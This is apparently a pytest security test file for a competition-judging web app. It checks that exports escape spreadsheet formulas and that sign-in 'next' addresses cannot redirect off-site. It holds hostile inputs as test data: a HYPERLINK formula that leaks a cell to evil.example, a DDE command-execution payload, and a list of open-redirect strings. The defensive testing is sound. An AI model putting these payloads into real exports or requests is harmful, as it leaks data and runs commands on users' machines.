"""Text an applicant or a judge typed never runs in the secretariat's spreadsheet, and no
`next` address sends a signed-in user to another site."""
from __future__ import annotations

import csv
import io
from urllib.parse import urljoin, urlsplit

import pytest
from openpyxl import load_workbook

from judging.extensions import db
from judging.models import Role
from judging.services.conflicts import declare
from tests.factories import PASSWORD, make_user
from tests.security.helpers import build_world

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)))
            for cell in row]


def test_exported_text_is_never_a_spreadsheet_formula(app, login_as):
    world = build_world()
    world.entry_a.applicant_name = FORMULA
    world.entry_b.applicant_name = "+SUM(1,2)"
    # a judge's declared conflict: the judge's own words land in the register too
    declare(db.session, judge=world.judge_b, entry=world.entry_a, has_conflict=True,
            reason="@cmd|' /C calc'!A0", actor=world.judge_b)
    db.session.commit()
    secretariat = login_as(world.secretariat)
    year = world.edition.year
    problems = []
    for url in (f"/secretariat/editions/{world.edition.id}/conflicts.csv",
                f"/secretariat/ranking/{year}/rounds/1/human_centricity/export.csv"):
        response = secretariat.get(url)
        assert response.status_code == 200, url
        cells = csv_cells(response)
        assert any(cell == "'" + FORMULA for cell in cells), (url, cells)
        problems += [f"{url}: {cell!r}" for cell in cells if cell.startswith(FORMULA_START)]
    response = secretariat.get(f"/secretariat/ranking/{year}/workbook.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.startswith(FORMULA_START)):
                    problems.append(f"workbook {sheet.title}!{cell.coordinate}: {cell.value!r}")
    assert not problems, "\n".join(problems)


HOSTILE_NEXT = [
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example/",
    "/%5Cevil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "/%09/evil.example/",
    "http:evil.example",
    "javascript:alert(1)",
    " //evil.example",
    "/%2F/evil.example",
]


def browser_target(location: str, base: str = "http://localhost/auth/login") -> str:
    """Where a browser goes for a Location header: it drops tabs and newlines and reads a
    backslash as a slash in http(s) URLs."""
    cleaned = location.replace("\t", "").replace("\n", "").replace("\r", "").replace("\\", "/")
    return urljoin(base, cleaned.strip())


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_signing_in_never_redirects_to_another_site(app, client, target):
    user = make_user(Role.APPLICANT)
    response = client.post("/auth/login", query_string={"next": target},
                           data={"email": user.email, "password": PASSWORD})
    assert response.status_code == 302
    destination = urlsplit(browser_target(response.headers["Location"]))
    assert destination.scheme == "http" and destination.hostname == "localhost", (
        target, response.headers["Location"])


def test_a_local_next_address_is_kept(app, client):
    user = make_user(Role.APPLICANT)
    response = client.post("/auth/login", query_string={"next": "/applicant/account"},
                           data={"email": user.email, "password": PASSWORD})
    assert response.headers["Location"] == "/applicant/account"


@pytest.mark.parametrize("target", HOSTILE_NEXT[:4])
def test_accepting_the_terms_never_redirects_to_another_site(app, login_as, target):
    world = build_world()
    judge = login_as(world.judge_no_terms)
    response = judge.post(f"/judge/editions/{world.edition.id}/terms",
                          query_string={"next": target}, data={"accept": "y"})
    assert response.status_code == 302
    destination = urlsplit(browser_target(response.headers["Location"]))
    assert destination.hostname == "localhost", (target, response.headers["Location"])
